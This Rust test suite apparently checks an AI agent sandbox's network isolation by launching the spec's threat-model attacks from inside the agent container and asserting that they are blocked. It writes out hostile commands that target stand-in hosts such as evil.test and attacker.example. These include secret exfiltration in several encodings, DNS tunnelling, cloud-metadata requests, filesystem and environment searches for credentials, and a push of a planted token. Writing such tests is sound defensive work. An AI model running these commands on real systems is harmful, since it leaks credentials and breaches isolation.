//! The attacks of the spec's threat model and the positive checks on the same paths.

use std::io::Read;
use std::process::{Command, Output};

use bb_testkit::docker_try;
use serde_json::Value;

use crate::run::{Runner, decision_lines, decisions_since};
use crate::util::*;
use crate::world::*;

pub fn attacks(run: &mut Runner, w: &World, runtime: &str) {
    let a = &w.a;
    run.case(
        "1 a host without a route: 403 blocked at CONNECT and in plain HTTP",
        || {
            let from = decision_lines(&a.sidecar).len();
            let tls = exec(&a.agent, "node", "curl -sS -m 5 https://evil.test/x");
            expect(
                stderr(&tls).contains("CONNECT tunnel failed, response 403"),
                || format!("https: {}", stderr(&tls)),
            )?;
            let plain = curl(a, "http://evil.test/x");
            expect_blocked(&plain, "not in the allowlist")?;
            expect_decision(a, from, "evil.test", None)?;
            expect(!w.upstream_requests().contains("evil.test"), || {
                "the upstream saw it".into()
            })
        },
    );
    run.case("2 direct to the upstream's IP, no proxy: no route", || {
        let out = exec(
            &a.agent,
            "node",
            &format!(
                "curl -sS --noproxy '*' -m 4 -k https://{}/direct-ip",
                w.upstream_ip
            ),
        );
        expect(!out.status.success(), || "curl connected".into())?;
        let nc = exec(
            &a.agent,
            "node",
            &format!("nc -v -z -w 3 {} 443", w.upstream_ip),
        );
        expect(!nc.status.success(), || "nc connected".into())?;
        expect_no_route(&stderr(&nc))?;
        expect(!w.upstream_requests().contains("/direct-ip"), || {
            "the upstream saw it".into()
        })
    });
    run.case(
        "2 a name without the proxy: the sink does not resolve it",
        || {
            let out = exec(
                &a.agent,
                "node",
                "curl -sS --noproxy '*' -m 4 https://api.test/direct-name",
            );
            expect(stderr(&out).contains("Could not resolve host"), || {
                stderr(&out)
            })
        },
    );
    run.case(
        "2 a host listener on 0.0.0.0 through every host address: unreachable",
        || host_listener_unreachable(w),
    );
    run.case("3 an allowed host with a spoofed Host header: 403", || {
        let out = curl(a, "-H 'Host: evil.test' https://api.test/spoof-host");
        expect_blocked(&out, "names evil.test, not the CONNECT target api.test")?;
        expect(!w.upstream_requests().contains("/spoof-host"), || {
            "the upstream saw it".into()
        })
    });
    run.case("3 an allowed host with a spoofed SNI: refused", || {
        let from = decision_lines(&a.sidecar).len();
        let out = exec(
            &a.agent,
            "node",
            "printf 'GET /spoof-sni HTTP/1.1\\r\\nHost: api.test\\r\\nConnection: close\\r\\n\\r\\n' | timeout 10 openssl s_client -quiet -proxy egress:9099 -connect api.test:443 -servername evil.test 2>&1",
        );
        let text = stdout(&out);
        expect(!text.contains("HTTP/1.1 200"), || format!("answered: {text}"))?;
        let lines = decisions_since(&a.sidecar, from);
        expect(
            lines.iter().any(|d| {
                d["reason"].as_str().is_some_and(|r| r.contains("TLS server name evil.test"))
            }),
            || format!("not refused for its server name: {lines:?}"),
        )?;
        expect(!w.upstream_requests().contains("/spoof-sni"), || "the upstream saw it".into())
    });
    for (label, value) in w.secrets() {
        for part in ["path", "query", "header", "body"] {
            for enc in ["plain", "base64", "url2", "hex", "split"] {
                run.case(
                    &format!("4 {label} in the {part}, {enc}: blocked by DLP"),
                    || {
                        let from = decision_lines(&w.a.sidecar).len();
                        exfiltrate(w, &label, &value, part, enc).and_then(|out| {
                            dlp_blocked(w, from, out, &format!("/leak/{label}/{part}/{enc}"))
                        })
                    },
                );
            }
        }
    }
    run.case(
        "5 the injected token in a body to its own host: blocked",
        || {
            let from = decision_lines(&a.sidecar).len();
            let out = curl(
                a,
                &format!("--data-binary 'x={API_TOKEN}' https://api.test/own-token"),
            );
            expect_blocked(&out, "known_secrets")?;
            expect_decision(a, from, "api.test", Some("known_secrets"))?;
            expect(!w.upstream_requests().contains("/own-token"), || {
                "the upstream saw it".into()
            })
        },
    );
    run.case("5 the injected token is nowhere in the agent (env, files, processes)", || {
        // The same search finds the planted AWS key in ~/.env.leaked: proof that it reads files.
        let search = |needle: &str| {
            stdout(&exec(
                &a.agent,
                "root",
                &format!(
                    "grep -rlF '{needle}' / --exclude-dir=proc --exclude-dir=sys 2>/dev/null; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep -F '{needle}'; true"
                ),
            ))
        };
        let control = search(PLANTED[0].2);
        expect(control.contains("/home/node/.env.leaked"), || {
            format!("the search does not work here (control found: {control:?})")
        })?;
        let found = search(API_TOKEN);
        expect(found.is_empty(), || format!("found: {found}"))
    });
    run.case(&format!("the agent runs under {runtime}"), || {
        let used = docker_try(&["inspect", "-f", "{{.HostConfig.Runtime}}", &a.agent])?;
        expect(used == runtime, || format!("the agent runs under {used}"))
    });
    run.case(
        "6 DNS exfiltration: refused by the sink, received by no other resolver",
        || dns_exfiltration(w, &w.a),
    );
    run.case(
        "7 a commit with a planted secret pushed through the gate: rejected",
        || dirty_push(w),
    );
    run.case(
        "8 cloud metadata through the proxy: refused before any connection",
        || {
            let from = decision_lines(&a.sidecar).len();
            let out = curl(a, "http://169.254.169.254/latest/meta-data/");
            expect_blocked(&out, "link-local")?;
            let lines = decisions_since(&a.sidecar, from);
            expect(
                lines
                    .iter()
                    .any(|d| d["host"] == "169.254.169.254" && d["verdict"] == "block"),
                || format!("no block decision: {lines:?}"),
            )
        },
    );
    run.case("8 no Docker socket in the agent", || {
        // `test -e`, not `ls`: Debian's runsc fails bookworm's statx flags with EINVAL.
        let out = exec(
            &a.agent,
            "root",
            "for p in /var/run/docker.sock /run/docker.sock /var/run/docker /run/containerd; do test -e $p && echo $p; done; true",
        );
        let found = stdout(&out);
        expect(found.is_empty(), || format!("present: {found}"))
    });
    run.case(
        "8 the sidecar offers only its proxy, sink, gate and supervise ports",
        || sidecar_ports(w),
    );
    run.case(
        "9 two bottles cannot reach each other's agent or sidecar",
        || bottles_apart(w),
    );
}

pub fn positives(run: &mut Runner, w: &World) {
    let a = &w.a;
    run.case(
        "+ the allowed host answers through the proxy with the injected token",
        || {
            let out = curl(a, "https://api.test/whoami");
            expect(stdout(&out).starts_with("ok 200"), || {
                format!("{} {}", stdout(&out), stderr(&out))
            })?;
            let seen = w.upstream_requests();
            let whoami = seen
                .lines()
                .filter_map(|l| serde_json::from_str::<Value>(l).ok())
                .find(|r| r["path"] == "/whoami")
                .ok_or("the upstream did not record /whoami")?;
            expect(
                whoami["authorization"] == format!("Bearer {API_TOKEN}"),
                || format!("authorization seen: {}", whoami["authorization"]),
            )
        },
    );
    run.case("+ a clean commit pushed through the gate lands upstream", || {
        let out = exec(
            &a.agent,
            "node",
            "cd ~/shop && echo ok > notes.txt && git add notes.txt && git commit -q -m clean-change && git push -q origin main",
        );
        expect(out.status.success(), || stderr(&out))?;
        let log = stdout(&exec(&w.git, "git", "git -C /srv/git/shop.git log --format=%s main"));
        expect(log.contains("clean-change"), || format!("upstream log: {log}"))
    });
    run.case("+ a fetch through the gate sees a commit made upstream out of band", || {
        let made = exec(
            &w.git,
            "git",
            "t=$(mktemp -d) && git clone -q /srv/git/shop.git $t && cd $t && echo x > upstream.txt && git add . && git -c user.name=up -c user.email=up@example.org commit -q -m out-of-band && git push -q origin main",
        );
        expect(made.status.success(), || stderr(&made))?;
        let out = exec(&a.agent, "node", "cd ~/shop && git pull -q && git log --format=%s -1");
        expect(stdout(&out).trim() == "out-of-band", || {
            format!("{} {}", stdout(&out), stderr(&out))
        })
    });
}

/// `curl ARGS` in agent A, printing the body then ` <status>`.
pub fn curl(l: &Launch, args: &str) -> Output {
    exec(
        &l.agent,
        "node",
        &format!("curl -sS -m 10 -w ' %{{http_code}}' {args}"),
    )
}

pub fn exfiltrate(
    w: &World,
    label: &str,
    value: &str,
    part: &str,
    enc: &str,
) -> Result<Output, String> {
    let path = format!("/leak/{label}/{part}/{enc}");
    let half = value.len() / 2;
    let (h1, h2) = value.split_at(half);
    let encoded = match enc {
        "plain" => value.to_string(),
        "base64" => base64(value.as_bytes()),
        "url2" => value.bytes().map(|b| format!("%25{b:02X}")).collect(),
        "hex" => value.bytes().map(|b| format!("{b:02x}")).collect(),
        "split" => String::new(),
        other => return Err(format!("unknown encoding {other}")),
    };
    let args = match (part, enc) {
        ("path", "split") => format!("https://api.test{path}/{h1}/x/{h2}"),
        ("path", _) => format!("https://api.test{path}/{encoded}"),
        ("query", "split") => format!("'https://api.test{path}?a={h1}&b={h2}'"),
        ("query", _) => format!("'https://api.test{path}?q={encoded}'"),
        ("header", "split") => format!("-H 'X-Data: {h1} and {h2}' https://api.test{path}"),
        ("header", _) => format!("-H 'X-Data: {encoded}' https://api.test{path}"),
        ("body", "split") => format!("--data-binary 'a={h1}&b={h2}' https://api.test{path}"),
        ("body", _) => format!("--data-binary 'd={encoded}' https://api.test{path}"),
        (other, _) => return Err(format!("unknown part {other}")),
    };
    Ok(curl(&w.a, &args))
}

/// A DLP refusal: 403 `blocked: <detector> found`, a block decision for api.test naming the
/// detector among the decision lines from index `from`, and nothing at the upstream.
pub fn dlp_blocked(w: &World, from: usize, out: Output, marker: &str) -> Result<(), String> {
    let body = stdout(&out);
    expect(body.ends_with(" 403"), || {
        format!("not refused: {body} {}", stderr(&out))
    })?;
    let detector = ["token_patterns", "known_secrets"]
        .into_iter()
        .find(|d| body.starts_with(&format!("blocked: {d} found ")))
        .ok_or_else(|| format!("not a DLP refusal: {body}"))?;
    let named = decisions_since(&w.a.sidecar, from)
        .iter()
        .any(|d| d["verdict"] == "block" && d["host"] == "api.test" && d["detector"] == detector);
    expect(named, || format!("no block decision naming {detector}"))?;
    expect(!w.upstream_requests().contains(marker), || {
        "the upstream received it".into()
    })
}

pub fn expect(ok: bool, why: impl FnOnce() -> String) -> Result<(), String> {
    if ok { Ok(()) } else { Err(why()) }
}

/// A curl answer `blocked: ... <403>` whose reason contains `reason`.
pub fn expect_blocked(out: &Output, reason: &str) -> Result<(), String> {
    let body = stdout(out);
    expect(
        body.starts_with("blocked:") && body.ends_with(" 403") && body.contains(reason),
        || format!("expected 403 blocked ({reason}): {body} {}", stderr(out)),
    )
}

pub fn expect_decision(
    l: &Launch,
    from: usize,
    host: &str,
    detector: Option<&str>,
) -> Result<(), String> {
    let lines = decisions_since(&l.sidecar, from);
    let found = lines.iter().any(|d| {
        d["verdict"] == "block"
            && d["host"] == host
            && detector.is_none_or(|det| d["detector"] == det)
    });
    expect(found, || {
        format!("no block decision for {host} ({detector:?}) in {lines:?}")
    })
}

/// curl/nc failed without reaching anything: unreachable, no route or a timeout (a refusal
/// would mean a packet got there).
pub fn expect_no_route(err: &str) -> Result<(), String> {
    let why = [
        "No route to host",
        "Network is unreachable",
        "timed out",
        "Connection timed out",
    ];
    expect(
        why.iter().any(|w| err.contains(w)) && !err.contains("refused"),
        || format!("not a routing failure: {err}"),
    )
}

pub fn host_listener_unreachable(w: &World) -> Result<(), String> {
    let port = w.listener.local_addr().map_err(|e| e.to_string())?.port();
    let gateway = |net: &str| {
        docker_try(&[
            "network",
            "inspect",
            "-f",
            "{{range .IPAM.Config}}{{.Gateway}}{{end}}",
            net,
        ])
        .unwrap_or_default()
    };
    let internal_subnet = docker_try(&[
        "network",
        "inspect",
        "-f",
        "{{range .IPAM.Config}}{{.Subnet}}{{end}}",
        &w.a.internal_net,
    ])
    .unwrap_or_default();
    let mut targets = vec![
        internal_subnet.replace(".0/24", ".1"),
        gateway(&w.a.egress_net),
        gateway("bridge"),
    ];
    let host_ips = Command::new("hostname")
        .arg("-I")
        .output()
        .map_err(|e| e.to_string())?;
    targets.extend(
        String::from_utf8_lossy(&host_ips.stdout)
            .split_whitespace()
            .filter(|a| !a.contains(':'))
            .map(str::to_string),
    );
    targets.retain(|t| !t.is_empty());
    expect(targets.len() >= 4, || {
        format!("too few host addresses found: {targets:?}")
    })?;
    // All probes at once: each waits out its timeout.
    let probes: Vec<String> = targets
        .iter()
        .map(|t| format!("(nc -z -w 2 {t} {port} && echo {t}) &"))
        .collect();
    let answered = stdout(&exec(
        &w.a.agent,
        "node",
        &format!("{} wait", probes.join(" ")),
    ));
    expect(answered.is_empty(), || {
        format!("the host listener answered on {answered}")
    })?;
    let mut accepted = 0;
    while let Ok((mut stream, _)) = w.listener.accept() {
        let mut buf = [0u8; 1];
        let _ = stream.read(&mut buf);
        accepted += 1;
    }
    expect(accepted == 0, || {
        format!("the host listener accepted {accepted} connections")
    })
}

pub fn dns_exfiltration(w: &World, l: &Launch) -> Result<(), String> {
    let from = decision_lines(&l.sidecar).len();
    let label: String = w
        .canary
        .bytes()
        .take(20)
        .map(|b| format!("{b:02x}"))
        .collect();
    let sidecar_ip = l.ip_on(&l.sidecar, &l.internal_net);
    let asks = [
        ("default", String::new()),
        ("tcp", "+tcp".to_string()),
        ("sink", format!("@{sidecar_ip}")),
        ("embedded", "@127.0.0.11".to_string()),
    ];
    for (how, args) in &asks {
        let name = format!("{label}-{how}.attacker.example");
        let out = exec(
            &l.agent,
            "node",
            &format!("dig +time=2 +tries=1 {args} {name}"),
        );
        expect(stdout(&out).contains("status: REFUSED"), || {
            format!("{how}: {}", stdout(&out))
        })?;
    }
    let direct = exec(
        &l.agent,
        "node",
        &format!(
            "dig +time=2 +tries=1 @{} {label}-direct.attacker.example",
            w.resolver_ip
        ),
    );
    expect(!stdout(&direct).contains("status:"), || {
        format!("direct: {}", stdout(&direct))
    })?;
    expect(!crate::classes::resolver_log(w).contains(&label), || {
        "the recording resolver received a query".into()
    })?;
    let mut buf = [0u8; 512];
    let loopback_udp = w.loopback_dns.0.recv_from(&mut buf).is_ok();
    let loopback_tcp = w.loopback_dns.1.accept().is_ok();
    expect(!loopback_udp && !loopback_tcp, || {
        "the host's loopback resolver received a query".into()
    })?;
    let lines = decisions_since(&l.sidecar, from);
    for (how, _) in &asks {
        let name = format!("{label}-{how}.attacker.example");
        expect(
            lines.iter().any(|d| {
                d["service"] == "dns"
                    && d["verdict"] == "block"
                    && d["host"].as_str().is_some_and(|h| h.contains(&name))
            }),
            || format!("the sink logged no refusal of {name}"),
        )?;
    }
    Ok(())
}

pub fn dirty_push(w: &World) -> Result<(), String> {
    let a = &w.a;
    let clone = exec(
        &a.agent,
        "node",
        "cd ~ && (test -d shop || git clone -q ssh://git@git.test:2222/srv/git/shop.git shop)",
    );
    expect(clone.status.success(), || {
        format!("clone: {}", stderr(&clone))
    })?;
    // Logins the gate opens upstream (sshd logs them at VERBOSE).
    let before = crate::classes::upstream_logins(w);
    let out = exec(
        &a.agent,
        "node",
        &format!(
            "cd ~/shop && echo 'github = {}' > deploy.env && git add deploy.env && git commit -q -m leak && git push origin main; s=$?; git reset -q --hard HEAD~1; exit $s",
            PLANTED[2].2
        ),
    );
    let err = stderr(&out);
    expect(!out.status.success(), || "the push was accepted".into())?;
    expect(
        err.contains("deploy.env") && err.contains("github-pat"),
        || format!("the refusal names neither file nor rule: {err}"),
    )?;
    expect(!err.contains(PLANTED[2].2), || {
        "the refusal shows the secret".into()
    })?;
    let log = stdout(&exec(
        &w.git,
        "git",
        "git -C /srv/git/shop.git log --all --format=%s",
    ));
    expect(!log.contains("leak"), || {
        "the upstream received the commit".into()
    })?;
    expect(crate::classes::upstream_logins(w) == before, || {
        "the upstream was contacted during the refused push".into()
    })
}

pub fn sidecar_ports(w: &World) -> Result<(), String> {
    let ip = w.a.ip_on(&w.a.sidecar, &w.a.internal_net);
    // One nc over the whole range: closed ports answer at once on the internal network.
    let out = exec(
        &w.a.agent,
        "node",
        &format!("nc -z -v -w 1 {ip} 1-10000 2>&1 | grep succeeded | cut -d' ' -f4; true"),
    );
    let open: Vec<String> = stdout(&out).lines().map(str::to_string).collect();
    use bb_contract::layout::{DNS_PORT, GIT_GATE_PORT, PROXY_PORT, SUPERVISE_PORT};
    let allowed = [DNS_PORT, PROXY_PORT, GIT_GATE_PORT, SUPERVISE_PORT].map(|p| p.to_string());
    expect(open.iter().all(|p| allowed.contains(p)), || {
        format!("open ports on the sidecar: {open:?}")
    })?;
    expect(open.iter().any(|p| p == "9099"), || {
        format!("the proxy port is not open: {open:?}")
    })
}

pub fn bottles_apart(w: &World) -> Result<(), String> {
    let (a, b) = (&w.a, &w.b);
    let _ = exec(&b.agent, "node", "nohup nc -k -l 7777 >/dev/null 2>&1 &");
    let b_agent = b.ip_on(&b.agent, &b.internal_net);
    let b_sidecar = b.ip_on(&b.sidecar, &b.internal_net);
    let b_sidecar_out = b.ip_on(&b.sidecar, &b.egress_net);
    // Positive control: B's own agent reaches its listener and its sidecar.
    let control = exec(
        &b.agent,
        "node",
        &format!("nc -z -w 2 {b_agent} 7777 && nc -z -w 2 {b_sidecar} 9099"),
    );
    expect(control.status.success(), || {
        "control: B cannot reach its own listener and sidecar".into()
    })?;
    for (what, target) in [
        ("B's agent", format!("{b_agent} 7777")),
        ("B's sidecar", format!("{b_sidecar} 9099")),
        (
            "B's sidecar on its egress network",
            format!("{b_sidecar_out} 9099"),
        ),
    ] {
        let out = exec(&a.agent, "node", &format!("nc -z -w 2 {target}"));
        expect(!out.status.success(), || {
            format!("A reached {what} ({target})")
        })?;
    }
    let a_sidecar = a.ip_on(&a.sidecar, &a.internal_net);
    let out = exec(&b.agent, "node", &format!("nc -z -w 2 {a_sidecar} 9099"));
    expect(!out.status.success(), || "B reached A's sidecar".into())
}
